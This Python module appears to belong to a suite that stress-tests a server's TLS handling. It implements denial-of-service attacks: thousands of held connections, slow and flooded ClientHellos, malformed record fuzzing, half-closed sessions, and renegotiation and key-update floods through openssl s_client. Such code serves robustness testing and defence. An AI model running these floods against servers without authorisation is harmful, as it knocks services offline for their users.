# SPDX-License-Identifier: Apache-2.0
"""Attacks on TLS itself: before, during and after the handshake."""

from __future__ import annotations

import contextlib
import os
import random
import select
import socket
import ssl
import struct
import subprocess
import time
from collections import deque
from collections.abc import Callable

from attacks.target import NOTHING_YET, Target, hold, say

CONNECTIONS = 2000
HELLOS_AT_A_TIME = 400
"""Fewer connections than the server accepts, so that all handshakes proceed."""

RESET = struct.pack("ii", 1, 0)
"""Argument of SO_LINGER: closing sends RST."""


def hello(target: Target) -> bytes:
    """Return the ClientHello of a client."""
    said = ssl.MemoryBIO()
    with contextlib.suppress(ssl.SSLWantReadError):
        target.context.wrap_bio(ssl.MemoryBIO(), said).do_handshake()
    return said.read()


def mute(target: Target, end: float) -> None:
    """Hold 2,000 connections without a handshake."""
    hold(target.connect_tcp, CONNECTIONS, b"", b"", end)


def half_handshakes(target: Target, end: float) -> None:
    """Hold 2,000 handshakes that stop after the ClientHello."""
    hold(target.connect_tcp, CONNECTIONS, hello(target), b"", end)


def slow_hellos(target: Target, end: float) -> None:
    """Send ClientHellos byte by byte."""
    begun = hello(target)
    hold(target.connect_tcp, CONNECTIONS, begun[:1], begun[1:], end)


def hellos(target: Target, end: float) -> None:
    """Send ClientHellos as fast as one process can; the server signs an answer to each."""
    begun = hello(target)
    with contextlib.ExitStack() as held:
        clients: deque[socket.socket] = deque()
        while time.monotonic() < end:
            if len(clients) >= HELLOS_AT_A_TIME:
                clients.popleft().close()
            with contextlib.suppress(OSError):
                client = held.enter_context(target.connect_tcp())
                client.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, RESET)
                client.sendall(begun)
                clients.append(client)


def tls_garbage(target: Target, end: float) -> None:
    """Send malformed records instead of a ClientHello, after one, and after the handshake."""
    chance = random.Random(11)
    begun = hello(target)

    def record(kind: int, length: int) -> bytes:
        return struct.pack(">BHH", kind, 0x303, length) + chance.randbytes(min(length, 20_000))

    odd: list[Callable[[], bytes]] = [
        lambda: chance.randbytes(chance.randrange(1, 5000)),
        lambda: record(chance.randrange(256), chance.randrange(1 << 16)),
        lambda: b"\x16\x03\x01\xff\xff" + begun[5:],
        lambda: begun[: chance.randrange(len(begun))],
        lambda: b"".join(b"\x16\x03\x01\0\1" + begun[at : at + 1] for at in range(5, len(begun))),
        lambda: begun + record(chance.choice([20, 21, 22, 23]), chance.randrange(17_000)),
        lambda: begun + 5000 * b"\x14\x03\x03\0\1\1",
        lambda: 5000 * b"\x15\x03\x03\0\2\1\x5a",
        lambda: b"\x80\x2e\1\0\2\0\x15\0\0\0\x10" + chance.randbytes(37),
        lambda: b"GET /metrics HTTP/1.1\r\nHost: x\r\n\r\n",
        lambda: _with(begun, chance.randrange(5, len(begun)), chance.randrange(256)),
    ]
    while time.monotonic() < end:
        with contextlib.suppress(OSError), target.connect_tcp() as client:
            say(client, chance.choice(odd)(), end=chance.random() < 0.5)
        with contextlib.suppress(OSError), target.connect() as client:
            os.write(client.fileno(), record(chance.choice([20, 21, 22, 23]), chance.randrange(17_000)))
            client.recv(1)


def _with(data: bytes, at: int, byte: int) -> bytes:
    return data[:at] + bytes([byte]) + data[at + 1 :]


def half_closed(target: Target, end: float) -> None:
    """Send FIN in a handshake, FIN without close_notify, close_notify without FIN; keep the connections."""
    begun = hello(target)

    def connect() -> socket.socket:
        way = random.randrange(3)
        if way == 0:
            client = target.connect_tcp()
            client.sendall(begun)
            client.shutdown(socket.SHUT_WR)
            return client
        client = target.connect()
        assert isinstance(client, ssl.SSLSocket)
        if way == 1:
            client.shutdown(socket.SHUT_WR)
        else:
            client.setblocking(False)
            with contextlib.suppress(*NOTHING_YET):
                client.unwrap()
        return client

    hold(connect, CONNECTIONS, b"", b"", end)


def renegotiations(target: Target, end: float) -> None:
    """Ask for renegotiation in TLS 1.2 and for key updates in TLS 1.3, by openssl(1)."""
    with contextlib.ExitStack() as held:
        clients: list[tuple[subprocess.Popen[bytes], int, bytes]] = []
        while time.monotonic() < end:
            clients = [client for client in clients if client[0].poll() is None]
            while len(clients) < 8:
                version, word = (("-tls1_2", b"R\n"), ("-tls1_3", b"K\n"))[len(clients) % 2]
                clients.append(_talking(held, target, version, word))
            _, writable, _ = select.select([], [fd for _, fd, _ in clients], [], 0.1)
            for _, fd, word in clients:
                if fd in writable:
                    os.write(fd, word)


def _talking(
    held: contextlib.ExitStack, target: Target, version: str, word: bytes
) -> tuple[subprocess.Popen[bytes], int, bytes]:
    """Start an `openssl s_client` on a terminal, which passes each command as a line of its own."""
    mine, its = os.openpty()
    host, port = target.address
    command = ["openssl", "s_client", version, "-connect", f"{host}:{port}"]
    if target.identity:
        command += ["-cert", target.identity, "-key", target.identity]
    null = subprocess.DEVNULL
    client = subprocess.Popen(command, stdin=its, stdout=null, stderr=null)
    os.close(its)
    held.callback(os.close, mine)
    held.callback(client.wait)
    held.callback(client.kill)
    return client, mine, word


ATTACKS = (mute, half_handshakes, slow_hellos, hellos, tls_garbage, half_closed, renegotiations)
